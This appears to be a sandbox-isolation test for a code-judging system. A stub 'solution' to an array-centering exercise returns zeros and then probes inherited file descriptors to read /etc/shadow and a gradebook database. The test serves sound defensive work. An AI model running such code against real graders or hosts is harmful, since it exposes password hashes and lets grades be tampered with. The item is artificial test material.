# exercise: broadcasting_rules/center
# tries: to read the host by a directory opened before the walls went up
# must: nothing of it is seen, the answer is judged as it is
# seen: isolate, CMS and DMOJ test the like
# %% solution
import numpy as np
def center(X, axis):
    return np.zeros(np.shape(X))
import os
for fd in range(256):
    for path in ("../../etc/shadow", "etc/shadow", "gradebook.db"):
        try:
            print("taken".upper(), os.read(os.open(path, os.O_RDONLY, dir_fd=fd), 9))
        except OSError:
            pass
